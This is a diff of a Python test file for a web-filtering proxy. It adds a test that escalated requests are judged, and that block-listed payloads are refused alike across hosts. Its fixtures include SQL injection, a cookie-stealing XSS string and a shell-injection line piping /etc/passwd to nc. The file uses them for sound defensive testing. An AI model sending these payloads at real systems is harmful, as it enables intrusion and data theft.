@@ -7,15 +7,19 @@ import itertools
 import json
 from collections.abc import Iterator
 from dataclasses import dataclass, field
+from pathlib import Path
 from typing import Any
 
 import pytest
 from contract_hosts import PROXIES, ProxyStack, ask, start
 from proxy_harness import BLOCKED, SETTINGS, eventually, tail_of
 
+from native.arenafile import ArenaFile
+from native.engine import Engine
 from sidecar import config
 from sidecar.core import open_core
 from sidecar.demo.stack import merge
+from sidecar.policy import compile_policy
 
 JSON = {"content-type": "application/json"}
 FORM = {"content-type": "application/x-www-form-urlencoded"}
@@ -23,6 +27,7 @@ GRPC = {"content-type": "application/grpc", "te": "trailers"}
 SQL = "' union select password, 1 from users where 'a'='a"
 XSS = "<script>document.location='http://x.example/?c='+document.cookie</script>"
 SHELL = "; cat /etc/passwd | nc 198.51.100.9 4444"
+UNCERTAIN = "/search?q=%24{7*7}"
 PROSE = "select a lamp from the catalogue and order by price"
 OVER = {
     "detectors": {"hold": "0s", "scanning": {"enabled": False}},
@@ -149,6 +154,33 @@ def test_the_same_decision(stack: ProxyStack, python_host: Any, name: str) -> No
         assert status == (200 if grpc else 403)
     else:
         assert status not in (403, 429, 503)
+
+
+def test_a_judged_text_is_refused_alike(stack: ProxyStack, python_host: Any, tmp_path: Path) -> None:
+    """What is uncertain goes to the judge's ring, and what a judge has put on the list is refused, whoever decides."""
+    arena = ArenaFile.open(stack.arena)
+    # the key of the text, by an arena that nobody else reads but with the same secret
+    twin = ArenaFile.create(tmp_path / "twin", clients=1024, events=64, blocklist=64, key=arena.key)
+    twin.write_policy(compile_policy(config.load(stack.folder / "outrider.yaml")))
+    assert Engine(twin, python_host.models).decide("GET", UNCERTAIN, client="198.18.201.1").record()["escalated"]
+    (shown,) = twin.drain_escalations()
+    assert shown["payload_key"]
+
+    before = arena.counters()["escalated"]
+    status, record = decided(stack, Same("tag", target=UNCERTAIN), "198.18.201.1")
+    assert (status, record["action"], record["escalated"]) == (200, "tag", True)
+    assert arena.counters()["escalated"] == before + 1
+    arena.block(shown["payload_key"], 60, kind="payload")
+    try:
+        with_others = Same("block", target=UNCERTAIN.replace("7", "81"))
+        status, record = decided(stack, with_others, "198.18.201.2")
+        assert (status, record["action"], record["escalated"]) == (403, "block", False)
+        assert "blocked_payload" in [reason["name"] for reason in record["reasons"]]
+        status, record = decided(stack, with_others, "198.51.101.8")  # on the allow list
+        assert (status, record["enforced"]) == (200, "tag")
+        assert ask(stack, "/items?page=2", "198.18.201.3").status == 200
+    finally:
+        arena.unblock(shown["payload_key"])
 
 
 def test_a_flood_is_throttled_alike(stack: ProxyStack) -> None:
